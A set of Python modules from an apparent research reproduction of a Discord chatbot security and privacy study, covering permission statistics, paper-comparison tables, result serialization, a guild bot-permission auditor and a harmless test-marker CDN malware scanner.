    def admin_with_extras_fraction(self) -> float:
        """Among valid bots, the share requesting admin *plus* other bits."""
        return self.admin_with_extras / self.valid_bots if self.valid_bots else 0.0

    # -- figure series ------------------------------------------------------------

    def top_permissions(self, count: int = 20) -> list[tuple[str, float]]:
        """Top-``count`` permissions by request share, descending."""
        ranked = sorted(
            ((name, self.percent(name)) for name in self.permission_counts),
            key=lambda item: item[1],
            reverse=True,
        )
        return ranked[:count]

    def fig3_series(self, count: int = 25) -> list[tuple[str, float]]:
        """The figure's series: top permissions, alphabetical by label
        (matching the paper's axis ordering)."""
        top = dict(self.top_permissions(count))
        return sorted(top.items(), key=lambda item: item[0])

    def scope_percent(self, scope_name: str) -> float:
        """Percent of valid bots requesting the given OAuth scope."""
        if not self.valid_bots:
            return 0.0
        return 100.0 * self.scope_counts.get(scope_name, 0) / self.valid_bots

    def extra_scope_series(self) -> list[tuple[str, float]]:
        """Non-``bot`` scopes by request share, descending."""
        return sorted(
            ((scope, self.scope_percent(scope)) for scope in self.scope_counts if scope != "bot"),
            key=lambda item: item[1],
            reverse=True,
        )

    def invalid_breakdown(self) -> dict[str, int]:
        return {
            status.value: self.status_counts.get(status.value, 0)
            for status in PermissionStatus
            if status is not PermissionStatus.VALID
        }
