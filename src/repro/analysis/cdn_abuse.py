"""CDN abuse measurement: malware hosted on the platform's CDN.

Reproduces the measurement behind the paper's motivating citation ([30],
Sophos): count unique CDN URLs serving malicious payloads.  Detection uses
an EICAR-style marker string — the standard way to exercise an AV pipeline
with harmless test content.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.discordsim.cdn import DiscordCDN
from repro.web.client import HttpClient
from repro.web.network import NetworkError, VirtualInternet

#: Harmless test-virus marker (EICAR-like), embedded by "malware" payloads.
MALWARE_MARKER = "X5O!P%@AP-STANDARD-ANTIMALWARE-TEST-FILE"

#: File extensions that raise scanner suspicion when combined with a hit.
EXECUTABLE_EXTENSIONS = frozenset({"exe", "scr", "bat", "js", "jar", "dll"})


def looks_malicious(content: str) -> bool:
    """Signature scan: does the payload carry the test-malware marker?"""
    return MALWARE_MARKER in content


@dataclass
class CdnScanReport:
    """Result of sweeping the CDN inventory."""

    urls_scanned: int = 0
    malicious_urls: list[str] = field(default_factory=list)
    fetch_failures: int = 0
    executable_payloads: int = 0

    @property
    def malicious_count(self) -> int:
        return len(self.malicious_urls)

    @property
    def malicious_fraction(self) -> float:
        return self.malicious_count / self.urls_scanned if self.urls_scanned else 0.0


class CdnAbuseScanner:
    """Enumerate CDN-hosted files and scan each payload."""

    def __init__(self, internet: VirtualInternet, client_id: str = "abuse-scanner") -> None:
        self.client = HttpClient(internet, client_id=client_id)

    def scan(self, cdn: DiscordCDN) -> CdnScanReport:
        report = CdnScanReport()
        for url in cdn.hosted_urls():
            report.urls_scanned += 1
            try:
                response = self.client.get(url)
            except NetworkError:
                report.fetch_failures += 1
                continue
            if not response.ok:
                report.fetch_failures += 1
                continue
            if looks_malicious(response.body):
                report.malicious_urls.append(url)
                extension = url.rpartition(".")[2].lower()
                if extension in EXECUTABLE_EXTENSIONS:
                    report.executable_payloads += 1
        return report
