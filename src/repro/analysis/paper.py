"""The paper's reported numbers, as executable ground truth.

EXPERIMENTS.md as code: every statistic the paper reports is encoded here
with its provenance (exact text quote vs figure estimate), and
:func:`compare_with_paper` scores a pipeline run against them — producing
the paper-vs-measured table programmatically and flagging any metric that
drifts outside tolerance.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field

from repro.core.results import PipelineResult

#: Provenance labels.
EXACT = "exact"  # value quoted in the paper's text
DERIVED = "derived"  # computed from quoted counts
ESTIMATE = "estimate"  # read off a figure


@dataclass(frozen=True)
class PaperMetric:
    """One number the paper reports."""

    key: str
    description: str
    value: float
    unit: str  # "%" or "count" or "ratio"
    provenance: str
    #: Allowed absolute deviation at full scale (percentage points for "%").
    tolerance: float
    #: "eq" (within tolerance of the value) or "le" (at most the value —
    #: used for extremes like the 12-bot developer maximum, which smaller
    #: samples can only undershoot).
    comparison: str = "eq"


#: Everything the evaluation section reports, in one list.
PAPER_METRICS: tuple[PaperMetric, ...] = (
    PaperMetric("valid_fraction", "bots with valid permissions", 74.0, "%", DERIVED, 2.0),
    PaperMetric("send_messages", "SEND_MESSAGES request rate", 59.18, "%", EXACT, 2.0),
    PaperMetric("administrator", "ADMINISTRATOR request rate", 54.86, "%", EXACT, 2.0),
    PaperMetric("dev_one_bot", "developers with exactly one bot", 89.08, "%", EXACT, 2.0),
    PaperMetric("dev_two_bots", "developers with exactly two bots", 8.76, "%", EXACT, 2.0),
    PaperMetric("dev_max_bots", "most bots by one developer", 12, "count", EXACT, 0.0, comparison="le"),
    PaperMetric("website_link", "active bots with a website link", 37.27, "%", EXACT, 2.0),
    PaperMetric("policy_link", "active bots with a privacy-policy link", 4.35, "%", EXACT, 1.0),
    PaperMetric("policy_valid", "active bots with a valid policy page", 4.33, "%", EXACT, 1.0),
    PaperMetric("broken_traceability", "broken traceability", 95.67, "%", EXACT, 1.0),
    PaperMetric("complete_traceability", "complete policies found", 0, "count", EXACT, 0.0),
    PaperMetric("validation_misclassified", "manual-review misclassifications", 0, "count", EXACT, 0.0),
    PaperMetric("github_links", "active bots with GitHub links", 23.86, "%", EXACT, 2.0),
    PaperMetric("valid_repos", "links leading to valid repositories", 60.46, "%", EXACT, 5.0),
    PaperMetric("public_source", "active bots with public source", 14.39, "%", EXACT, 2.0),
    PaperMetric("js_share", "JavaScript share of valid repos", 41.0, "%", EXACT, 4.0),
    PaperMetric("py_share", "Python share of valid repos", 32.0, "%", EXACT, 4.0),
    PaperMetric("js_checks", "JS repos with permission checks", 72.97, "%", EXACT, 6.0),
    PaperMetric("py_checks", "Python repos with permission checks", 2.65, "%", EXACT, 3.0),
    PaperMetric("honeypot_flagged", "bots caught by the honeypot", 1, "count", EXACT, 0.0),
)


@dataclass
class ComparisonRow:
    metric: PaperMetric
    measured: float
    scale_factor: float = 1.0

    @property
    def deviation(self) -> float:
        return abs(self.measured - self.metric.value)

    @property
    def allowed(self) -> float:
        """Tolerance, widened at sub-paper scale by sqrt(paper/actual)."""
        return self.metric.tolerance * self.scale_factor

    @property
    def within_tolerance(self) -> bool:
        if self.metric.comparison == "le":
            return self.measured <= self.metric.value
        if self.metric.tolerance == 0.0:
            # Zero-tolerance metrics are exact-match integers.
            return round(self.measured) == round(self.metric.value)
        return self.deviation <= self.allowed


@dataclass
class ComparisonReport:
    rows: list[ComparisonRow] = field(default_factory=list)

    @property
    def all_within_tolerance(self) -> bool:
        return all(row.within_tolerance for row in self.rows)

    def failures(self) -> list[ComparisonRow]:
        return [row for row in self.rows if not row.within_tolerance]

    def render(self) -> str:
        from repro.analysis.tables import render_table

        return render_table(
            ("Metric", "Paper", "Measured", "Δ", "Tol", "OK", "Provenance"),
            [
                (
                    row.metric.description,
                    f"{row.metric.value:g}{'%' if row.metric.unit == '%' else ''}",
                    f"{row.measured:.2f}{'%' if row.metric.unit == '%' else ''}",
                    f"{row.deviation:.2f}",
                    f"{row.allowed:.2f}",
                    "yes" if row.within_tolerance else "NO",
                    row.metric.provenance,
                )
                for row in self.rows
            ],
            title="Paper vs. measured",
        )


PAPER_SCALE_BOTS = 20_915


def compare_with_paper(result: PipelineResult) -> ComparisonReport:
    """Score a pipeline run against every paper-reported number.

    Tolerances widen by ``sqrt(paper_scale / run_scale)`` so reduced-scale
    runs are judged fairly against their larger sampling noise.
    """
    scale = max(result.bots_collected, 1)
    factor = max(1.0, math.sqrt(PAPER_SCALE_BOTS / scale))
    report = ComparisonReport()

    def add(key: str, measured: float | None) -> None:
        metric = next((candidate for candidate in PAPER_METRICS if candidate.key == key), None)
        if metric is None or measured is None:
            return
        report.rows.append(ComparisonRow(metric=metric, measured=measured, scale_factor=factor))

    dist = result.permission_distribution
    if dist is not None:
        add("valid_fraction", dist.valid_fraction * 100)
        add("send_messages", dist.send_messages_percent)
        add("administrator", dist.administrator_percent)

    developers = result.developer_distribution
    if developers is not None:
        table = {row[0]: row[2] for row in developers.table1()}
        add("dev_one_bot", table.get(1, 0.0))
        add("dev_two_bots", table.get(2, 0.0))
        add("dev_max_bots", developers.max_bots_by_one_developer)

    trace = result.traceability_summary
    if trace is not None:
        table2 = {row[0]: row[2] for row in trace.table2()}
        add("website_link", table2["Website Link"])
        add("policy_link", table2["Privacy Policy Link"])
        add("policy_valid", table2["Privacy Policy"])
        add("broken_traceability", trace.broken_fraction * 100)
        add("complete_traceability", trace.complete_count)
    if result.validation is not None:
        add("validation_misclassified", result.validation.misclassified)

    code = result.code_summary
    if code is not None:
        add("github_links", code.github_link_percent)
        add("valid_repos", code.valid_repo_percent_of_links)
        add("public_source", code.source_percent_of_active)
        add("js_share", code.language_percent("JavaScript"))
        add("py_share", code.language_percent("Python"))
        add("js_checks", code.check_rate("JavaScript") * 100)
        add("py_checks", code.check_rate("Python") * 100)

    if result.honeypot is not None:
        add("honeypot_flagged", len(result.honeypot.flagged_bots))

    return report
