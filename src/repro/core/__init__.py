"""The end-to-end assessment pipeline (the paper's contribution, Figure 1).

Data collection → static analysis (traceability + code) → dynamic analysis
(honeypot), over any messaging-platform world that exposes a listing site,
consent pages and installable bots.  :class:`AssessmentPipeline` wires the
whole reproduction together.
"""

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline, PipelineWorld
from repro.core.results import PipelineResult
from repro.core.report import render_full_report

__all__ = [
    "AssessmentPipeline",
    "PipelineConfig",
    "PipelineResult",
    "PipelineWorld",
    "render_full_report",
]
