"""The end-to-end assessment pipeline (the paper's contribution, Figure 1).

Data collection → static analysis (traceability + code) → dynamic analysis
(honeypot), over any messaging-platform world that exposes a listing site,
consent pages and installable bots.  :class:`AssessmentPipeline` wires the
whole reproduction together.

Exports resolve lazily (PEP 562) so that low-level modules — notably
:mod:`repro.scraper.base`, which uses :mod:`repro.core.resilience` — can
import their piece of the core package without dragging the whole pipeline
(and its scraper imports) in a cycle.
"""

from typing import TYPE_CHECKING

_EXPORTS = {
    "AssessmentPipeline": "repro.core.pipeline",
    "PipelineCheckpoint": "repro.core.checkpoint",
    "PipelineConfig": "repro.core.config",
    "PipelineResult": "repro.core.results",
    "PipelineWorld": "repro.core.pipeline",
    "CircuitBreaker": "repro.core.resilience",
    "CircuitBreakerRegistry": "repro.core.resilience",
    "CircuitOpenError": "repro.core.resilience",
    "FaultLedger": "repro.core.resilience",
    "FaultRecord": "repro.core.resilience",
    "RetryBudget": "repro.core.resilience",
    "RetryPolicy": "repro.core.resilience",
    "StageStatus": "repro.core.resilience",
    "render_full_report": "repro.core.report",
}

__all__ = sorted(_EXPORTS)

if TYPE_CHECKING:  # pragma: no cover - static-analysis convenience
    from repro.core.checkpoint import PipelineCheckpoint
    from repro.core.config import PipelineConfig
    from repro.core.pipeline import AssessmentPipeline, PipelineWorld
    from repro.core.report import render_full_report
    from repro.core.resilience import (
        CircuitBreaker,
        CircuitBreakerRegistry,
        CircuitOpenError,
        FaultLedger,
        FaultRecord,
        RetryBudget,
        RetryPolicy,
        StageStatus,
    )
    from repro.core.results import PipelineResult


def __getattr__(name: str):
    module_name = _EXPORTS.get(name)
    if module_name is None:
        raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
    import importlib

    return getattr(importlib.import_module(module_name), name)


def __dir__() -> list[str]:
    return __all__
