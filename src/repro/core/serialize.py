"""Result serialization: persist a pipeline run as JSON.

A measurement campaign's output should outlive the process — this module
flattens a :class:`~repro.core.results.PipelineResult` into a JSON-able
dict (all tables, headline stats, per-bot records on request) and back-
loads the summary for later comparison runs.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from repro.core.results import PipelineResult

SCHEMA_VERSION = 1


def result_to_dict(result: PipelineResult, include_bots: bool = False) -> dict[str, Any]:
    """Flatten a pipeline result.  ``include_bots`` adds per-bot records."""
    payload: dict[str, Any] = {
        "schema_version": SCHEMA_VERSION,
        "bots_collected": result.bots_collected,
        "active_bots": result.active_bots,
        "virtual_seconds": result.virtual_seconds,
        "wall_seconds": result.wall_seconds,
        "captcha_dollars": result.captcha_dollars,
        "scrape_stats": {
            "pages_fetched": result.scrape_stats.pages_fetched,
            "rate_limited": result.scrape_stats.rate_limited,
            "captchas_seen": result.scrape_stats.captchas_seen,
            "captchas_solved": result.scrape_stats.captchas_solved,
            "timeouts": result.scrape_stats.timeouts,
            "malformed_retry_after": result.scrape_stats.malformed_retry_after,
            "circuit_short_circuits": result.scrape_stats.circuit_short_circuits,
            "retries_denied": result.scrape_stats.retries_denied,
        },
        "summary_lines": result.summary_lines(),
        "stage_status": dict(result.stage_status),
        "failed_stages": result.failed_stages,
        "fault_ledger": result.fault_ledger.to_dict(),
        "quarantine": {
            "count": len(result.quarantines),
            "by_reason": result.quarantines.by_reason(),
            "bots": [record.to_dict() for record in result.quarantines.records],
        },
        "metrics": result.metrics.to_dict(),
    }

    dist = result.permission_distribution
    if dist is not None:
        payload["figure3"] = {
            "valid_fraction": dist.valid_fraction,
            "series": dist.fig3_series(),
            "send_messages_percent": dist.send_messages_percent,
            "administrator_percent": dist.administrator_percent,
            "admin_with_extras_fraction": dist.admin_with_extras_fraction,
            "invalid_breakdown": dist.invalid_breakdown(),
        }

    developers = result.developer_distribution
    if developers is not None:
        prolific_tag, prolific_count = developers.most_prolific()
        payload["table1"] = {
            "rows": developers.table1(),
            "total_developers": developers.total_developers,
            "most_prolific": {"developer": prolific_tag, "bots": prolific_count},
        }

    trace = result.traceability_summary
    if trace is not None:
        payload["table2"] = {
            "rows": trace.table2(),
            "classes": trace.classification_counts(),
            "broken_fraction": trace.broken_fraction,
            "generic_fraction_of_valid": trace.generic_fraction_of_valid,
        }
        if result.validation is not None:
            payload["validation"] = {
                "sample_size": result.validation.sample_size,
                "misclassified": result.validation.misclassified,
                "accuracy": result.validation.accuracy,
            }

    code = result.code_summary
    if code is not None:
        payload["code_analysis"] = {
            "github_link_percent": code.github_link_percent,
            "valid_repo_percent_of_links": code.valid_repo_percent_of_links,
            "source_percent_of_active": code.source_percent_of_active,
            "language_counts": code.language_counts(),
            "check_table": code.check_table(),
        }

    honeypot = result.honeypot
    if honeypot is not None:
        payload["honeypot"] = {
            "bots_tested": honeypot.bots_tested,
            "bots_processed": honeypot.bots_processed,
            "bots_quarantined": honeypot.bots_quarantined,
            "quarantined": [
                {"bot_name": outcome.bot_name, "reason": outcome.quarantine_reason}
                for outcome in honeypot.quarantined_bots
            ],
            "install_failures": honeypot.install_failures,
            "manual_verifications": honeypot.manual_verifications,
            "captcha_cost": honeypot.captcha_cost,
            "precision": honeypot.precision,
            "recall": honeypot.recall,
            "flagged": [
                {
                    "bot_name": outcome.bot_name,
                    "trigger_kinds": sorted(kind.value for kind in outcome.trigger_kinds),
                    "suspicious_messages": list(outcome.suspicious_messages),
                }
                for outcome in honeypot.flagged_bots
            ],
        }

    if include_bots:
        payload["bots"] = [
            {
                "listing_id": bot.listing_id,
                "name": bot.name,
                "developer": bot.developer_tag,
                "tags": list(bot.tags),
                "guild_count": bot.guild_count,
                "votes": bot.votes,
                "permission_status": bot.permission_status.value,
                "permissions": list(bot.permission_names),
                "website_url": bot.website_url,
                "github_url": bot.github_url,
            }
            for bot in result.crawl.bots
        ]
    return payload


#: Ledger stages describing *this process's* recovery, not the campaign.
_PROVENANCE_STAGES = ("journal", "checkpoint", "storage")


def comparable_result(payload: dict[str, Any]) -> dict[str, Any]:
    """Canonicalize a result dict for crashed-vs-golden comparison.

    A resumed run must produce the *same measurement* as an uninterrupted
    one, but not the same process history.  This strips exactly the fields
    that describe process history and nothing else:

    - wall-clock seconds (top level, per stage, per shard) — host timing;
    - journal counters and per-stage ``resumed`` flags;
    - fault-ledger records with the reserved provenance stages
      (``journal`` / ``checkpoint`` / ``storage``), with the "Absorbed N faults" summary
      line regenerated from what remains;
    - ``stage_status`` values of ``resumed``, mapped back to the outcome
      the *executing* run recorded (persisted in the stage metrics).

    Everything else — every statistic, every table, every campaign fault —
    must match byte-for-byte once both sides pass through here.
    """
    data: dict[str, Any] = json.loads(json.dumps(payload))
    data.pop("wall_seconds", None)

    ledger = data.get("fault_ledger")
    records: list[dict[str, Any]] = []
    if isinstance(ledger, dict):
        records = [
            record
            for record in ledger.get("records", [])
            if record.get("stage") not in _PROVENANCE_STAGES
        ]
        ledger["records"] = records

    lines = data.get("summary_lines")
    if isinstance(lines, list):
        rebuilt = [line for line in lines if not (isinstance(line, str) and line.startswith("Absorbed "))]
        if records:
            by_stage: dict[str, int] = {}
            skipped = 0
            for record in records:
                by_stage[record["stage"]] = by_stage.get(record["stage"], 0) + 1
                skipped += record.get("bots_skipped", 0)
            stages = ", ".join(f"{stage}: {count}" for stage, count in sorted(by_stage.items()))
            digest = f"Absorbed {len(records)} faults ({stages or 'none'}); {skipped} bots skipped."
            position = next(
                (
                    index
                    for index, line in enumerate(rebuilt)
                    if isinstance(line, str) and line.startswith("Quarantined ")
                ),
                len(rebuilt),
            )
            rebuilt.insert(position, digest)
        data["summary_lines"] = rebuilt

    metrics = data.get("metrics")
    stage_entries: dict[str, Any] = {}
    if isinstance(metrics, dict):
        metrics.pop("journal", None)
        stage_entries = metrics.get("stages", {}) if isinstance(metrics.get("stages"), dict) else {}
        for entry in stage_entries.values():
            entry.pop("wall_seconds", None)
            entry.pop("resumed", None)
            for shard in entry.get("shards", []):
                shard.pop("wall_seconds", None)

    stage_status = data.get("stage_status")
    if isinstance(stage_status, dict):
        for stage, value in stage_status.items():
            if value == "resumed":
                outcome = stage_entries.get(stage, {}).get("outcome", "")
                if outcome:
                    stage_status[stage] = outcome
    return data


def save_result(result: PipelineResult, path: str | Path, include_bots: bool = False) -> Path:
    """Write the flattened result to ``path`` as pretty-printed JSON."""
    target = Path(path)
    target.write_text(json.dumps(result_to_dict(result, include_bots=include_bots), indent=2))
    return target


def load_result_summary(path: str | Path) -> dict[str, Any]:
    """Load a previously saved result dict, checking the schema version."""
    payload = json.loads(Path(path).read_text())
    version = payload.get("schema_version")
    if version != SCHEMA_VERSION:
        raise ValueError(f"unsupported result schema version: {version!r}")
    return payload
