"""Guild guardian: audit the bots installed in a live guild.

The paper closes by recommending "stricter scrutiny when developers collect
data and a continuous rigorous vetting process".  Guardian is that scrutiny
in tool form for guild owners: for every installed bot it reports the
granted permission set, its risk score, administrator redundancy, the data
types it can reach, and whether its granted envelope exceeds what the bot
measurably uses (from the platform's API-call audit trail).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.risk import risk_score
from repro.analysis.tables import render_table
from repro.discordsim.api import BotApiClient
from repro.discordsim.guild import Guild
from repro.discordsim.permissions import DISPLAY_NAMES, Permission, Permissions
from repro.discordsim.platform import DiscordPlatform
from repro.traceability.analyzer import DATA_PERMISSIONS

#: Map from audited API methods to the permission they exercise.
_METHOD_PERMISSIONS: dict[str, Permission] = {
    "send_message": Permission.SEND_MESSAGES,
    "read_history": Permission.READ_MESSAGE_HISTORY,
    "add_reaction": Permission.ADD_REACTIONS,
    "delete_message": Permission.MANAGE_MESSAGES,
    "kick_member": Permission.KICK_MEMBERS,
    "ban_member": Permission.BAN_MEMBERS,
    "assign_role": Permission.MANAGE_ROLES,
    "set_nickname": Permission.MANAGE_NICKNAMES,
}


@dataclass
class BotAudit:
    """Guardian's findings for one installed bot."""

    bot_name: str
    bot_user_id: int
    granted: Permissions
    risk: float
    redundant_with_admin: tuple[str, ...]
    data_exposure: tuple[str, ...]
    permissions_exercised: frozenset[Permission] = frozenset()
    granted_but_unused: tuple[str, ...] = ()

    @property
    def is_high_risk(self) -> bool:
        return self.risk >= 0.5


@dataclass
class GuildAuditReport:
    guild_name: str
    audits: list[BotAudit] = field(default_factory=list)

    @property
    def high_risk_bots(self) -> list[BotAudit]:
        return [audit for audit in self.audits if audit.is_high_risk]

    def render(self) -> str:
        rows = [
            (
                audit.bot_name,
                f"{audit.risk:.2f}",
                "yes" if audit.granted.is_administrator else "no",
                len(audit.redundant_with_admin),
                ", ".join(audit.data_exposure) or "-",
                len(audit.granted_but_unused),
            )
            for audit in sorted(self.audits, key=lambda a: a.risk, reverse=True)
        ]
        return render_table(
            ("Bot", "Risk", "Admin", "Redundant bits", "Data exposure", "Unused grants"),
            rows or [("(no bots installed)", "", "", "", "", "")],
            title=f"Guardian audit: {self.guild_name}",
        )


class GuildGuardian:
    """Audits guilds on a platform."""

    def __init__(self, platform: DiscordPlatform) -> None:
        self.platform = platform
        self._api_clients: dict[int, BotApiClient] = {}

    def register_api_client(self, client: BotApiClient) -> None:
        """Feed Guardian a bot's API client so usage can be compared to grants."""
        self._api_clients[client.bot_user_id] = client

    def audit_guild(self, guild_id: int) -> GuildAuditReport:
        guild = self.platform.guilds[guild_id]
        report = GuildAuditReport(guild_name=guild.name)
        for member in guild.bot_members():
            report.audits.append(self._audit_bot(guild, member.user_id, member.user.name))
        return report

    def _audit_bot(self, guild: Guild, bot_user_id: int, bot_name: str) -> BotAudit:
        granted = guild.base_permissions(bot_user_id)
        # Report the *requested* set (the managed role), not the resolved
        # ALL that administrator implies, for redundancy analysis.
        managed_roles = [
            guild.roles[role_id]
            for role_id in guild.member(bot_user_id).role_ids
            if role_id in guild.roles and guild.roles[role_id].managed
        ]
        requested = managed_roles[0].permissions if managed_roles else granted
        exposure = tuple(
            sorted(
                {
                    data_type
                    for permission, data_type in DATA_PERMISSIONS.items()
                    if requested.has(permission)
                }
            )
        )
        exercised = self._exercised(bot_user_id)
        unused = tuple(
            DISPLAY_NAMES[flag]
            for flag in requested.flags()
            if flag in _METHOD_PERMISSIONS.values() and flag not in exercised
        )
        return BotAudit(
            bot_name=bot_name,
            bot_user_id=bot_user_id,
            granted=requested,
            risk=risk_score(requested),
            redundant_with_admin=tuple(
                DISPLAY_NAMES[flag] for flag in requested.redundant_with_administrator()
            ),
            data_exposure=exposure,
            permissions_exercised=exercised,
            granted_but_unused=unused,
        )

    def _exercised(self, bot_user_id: int) -> frozenset[Permission]:
        client = self._api_clients.get(bot_user_id)
        if client is None:
            return frozenset()
        used: set[Permission] = set()
        for record in client.calls:
            if record.allowed and record.method in _METHOD_PERMISSIONS:
                used.add(_METHOD_PERMISSIONS[record.method])
        return frozenset(used)
