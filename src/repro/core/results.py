"""Typed results for an end-to-end pipeline run."""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.code_stats import CodeAnalysisSummary
from repro.analysis.developer_stats import DeveloperDistribution
from repro.analysis.permission_stats import PermissionDistribution
from repro.analysis.risk import RiskSummary
from repro.analysis.traceability_stats import TraceabilitySummary
from repro.codeanalysis.analyzer import RepoAnalysis
from repro.core.metrics import RunMetrics
from repro.core.resilience import FaultLedger, StageStatus
from repro.core.supervision import QuarantineLog
from repro.honeypot.experiment import HoneypotReport
from repro.scraper.base import ScrapeStats
from repro.scraper.topgg import CrawlResult
from repro.traceability.analyzer import TraceabilityResult
from repro.traceability.validation import ValidationReport


@dataclass
class PipelineResult:
    """Everything one assessment run produced.

    ``permission_distribution`` et al. are the aggregates the paper's
    tables/figures come from; the raw per-bot records are kept alongside
    for drill-down.
    """

    # Stage outputs.
    crawl: CrawlResult
    traceability_results: list[TraceabilityResult] = field(default_factory=list)
    validation: ValidationReport | None = None
    repo_analyses: list[RepoAnalysis] = field(default_factory=list)
    honeypot: HoneypotReport | None = None

    # Aggregates.
    permission_distribution: PermissionDistribution | None = None
    developer_distribution: DeveloperDistribution | None = None
    traceability_summary: TraceabilitySummary | None = None
    code_summary: CodeAnalysisSummary | None = None
    risk_summary: RiskSummary | None = None

    # Run accounting.
    scrape_stats: ScrapeStats = field(default_factory=ScrapeStats)
    virtual_seconds: float = 0.0
    wall_seconds: float = 0.0
    captcha_dollars: float = 0.0

    # Resilience accounting: every fault the run absorbed, and how each
    # stage ended (stage name -> StageStatus value).
    fault_ledger: FaultLedger = field(default_factory=FaultLedger)
    #: Bots the supervision layer pulled out of a stage mid-flight.
    quarantines: QuarantineLog = field(default_factory=QuarantineLog)
    stage_status: dict[str, str] = field(default_factory=dict)

    # Operational metrics: per-stage wall/virtual time, traffic, and
    # per-shard throughput when the run was sharded.
    metrics: RunMetrics = field(default_factory=RunMetrics)

    @property
    def degraded(self) -> bool:
        """Whether any part of the run lost coverage to faults."""
        return len(self.fault_ledger) > 0

    @property
    def failed_stages(self) -> list[str]:
        """Stages that aborted; their summaries are ``None``, not all-zero."""
        return sorted(
            stage for stage, status in self.stage_status.items() if status == StageStatus.FAILED.value
        )

    @property
    def bots_collected(self) -> int:
        return len(self.crawl.bots)

    @property
    def active_bots(self) -> int:
        return len(self.crawl.with_valid_permissions())

    def summary_lines(self) -> list[str]:
        """One-line-per-finding digest (the abstract's numbers)."""
        lines = [f"Collected {self.bots_collected} chatbots; {self.active_bots} with valid permissions."]
        if self.permission_distribution:
            dist = self.permission_distribution
            lines.append(
                f"administrator requested by {dist.administrator_percent:.2f}% of active bots; "
                f"send messages by {dist.send_messages_percent:.2f}%."
            )
        if self.traceability_summary:
            summary = self.traceability_summary
            lines.append(
                f"{summary.broken_fraction * 100:.2f}% of active bots have broken traceability; "
                f"{summary.complete_count} complete, {summary.partial_count} partial."
            )
        if self.code_summary:
            code = self.code_summary
            js = code.check_rate("JavaScript") * 100
            py = code.check_rate("Python") * 100
            lines.append(
                f"{code.github_link_percent:.2f}% of active bots link GitHub; "
                f"permission checks in {js:.2f}% of JS and {py:.2f}% of Python repos."
            )
        if self.risk_summary and self.risk_summary.scores:
            risk = self.risk_summary
            lines.append(
                f"Mean permission risk {risk.mean_risk:.2f}; "
                f"{risk.high_risk_fraction * 100:.1f}% of active bots are high-risk; "
                f"mean over-privilege index {risk.mean_over_privilege:.2f}."
            )
        if self.honeypot:
            flagged = ", ".join(outcome.bot_name for outcome in self.honeypot.flagged_bots) or "none"
            lines.append(
                f"Honeypot: {self.honeypot.bots_tested} bots tested, "
                f"{len(self.honeypot.flagged_bots)} flagged ({flagged})."
            )
        failed = self.failed_stages
        if failed:
            lines.append(
                "Stage(s) failed: " + ", ".join(failed) + " — their summaries are omitted (no data, not zeros)."
            )
        if self.degraded:
            lines.append(self.fault_ledger.summary_line())
        if self.quarantines:
            lines.append(self.quarantines.summary_line())
        return lines
