"""Subprocess driver for the crash-injection harness.

Runs one full pipeline from a JSON config file and writes the
*comparable* result (see :func:`repro.core.serialize.comparable_result`)
as canonical sorted JSON, so two runs can be compared byte-for-byte::

    python -m repro.core.crash_driver config.json out.json

The config file holds :class:`~repro.core.config.PipelineConfig` field
overrides (``n_bots``, ``shards``, ``checkpoint_path``, ``journal_path``,
...).  The harness arms crashes purely through the environment
(``REPRO_CRASH_AT`` / ``REPRO_CRASHPOINTS_RECORD``) so the golden, killed
and resumed invocations of a scenario run the exact same code path.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Sequence

from repro.core.config import PipelineConfig
from repro.core.pipeline import AssessmentPipeline
from repro.core.serialize import comparable_result, result_to_dict
from repro.core.storage import STORAGE_EXIT_CODE, StorageError


def build_config(payload: dict) -> PipelineConfig:
    """Apply JSON field overrides to a default :class:`PipelineConfig`."""
    config = PipelineConfig()
    for key, value in payload.items():
        if not hasattr(config, key):
            raise SystemExit(f"unknown config field {key!r}")
        setattr(config, key, value)
    return config


def main(argv: Sequence[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if len(argv) != 2:
        print("usage: python -m repro.core.crash_driver CONFIG.json OUT.json", file=sys.stderr)
        return 2
    config_path, out_path = argv
    payload = json.loads(Path(config_path).read_text())
    try:
        result = AssessmentPipeline(build_config(payload)).run()
    except StorageError as error:
        # A typed storage failure: loud, named, and distinguishable from a
        # crash-point kill (137) so the disk-fault harness can assert the
        # run failed *honestly* rather than producing a wrong result.
        print(f"STORAGE_ERROR {type(error).__name__}: {error}", file=sys.stderr)
        return STORAGE_EXIT_CODE
    comparable = comparable_result(result_to_dict(result))
    Path(out_path).write_text(json.dumps(comparable, sort_keys=True, indent=1) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
