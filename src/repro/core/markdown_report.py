"""Markdown report rendering: a publication-ready results document.

Mirrors :func:`repro.core.report.render_full_report` but emits GitHub-
flavoured Markdown — the format EXPERIMENTS.md uses — so a measurement run
can drop its findings straight into a repository or paper appendix.
"""

from __future__ import annotations

from repro.core.results import PipelineResult


def _table(headers: list[str], rows: list[list[str]]) -> str:
    lines = ["| " + " | ".join(headers) + " |", "|" + "|".join("---" for _ in headers) + "|"]
    for row in rows:
        lines.append("| " + " | ".join(str(cell) for cell in row) + " |")
    return "\n".join(lines)


def render_markdown_report(result: PipelineResult, title: str = "Chatbot Security & Privacy Assessment") -> str:
    """Render the full run as Markdown."""
    sections: list[str] = [f"# {title}", ""]
    sections.append("## Summary")
    sections.append("")
    for line in result.summary_lines():
        sections.append(f"- {line}")
    sections.append("")

    dist = result.permission_distribution
    if dist is not None:
        sections.append("## Permission distribution (Figure 3)")
        sections.append("")
        sections.append(
            _table(
                ["Permission", "% of active bots"],
                [[name, f"{percent:.2f}%"] for name, percent in dist.top_permissions(25)],
            )
        )
        sections.append("")
        sections.append(
            _table(
                ["Invite outcome", "Count"],
                [["valid", dist.valid_bots]] + [[k, v] for k, v in sorted(dist.invalid_breakdown().items())],
            )
        )
        extra = dist.extra_scope_series()
        if extra:
            sections.append("")
            sections.append(
                _table(["Extra OAuth scope", "% of active bots"], [[s, f"{p:.2f}%"] for s, p in extra])
            )
        sections.append("")

    developers = result.developer_distribution
    if developers is not None:
        sections.append("## Bots per developer (Table 1)")
        sections.append("")
        sections.append(
            _table(
                ["Bots published", "Developers", "Percent"],
                [[count, devs, f"{percent:.2f}%"] for count, devs, percent in developers.table1()],
            )
        )
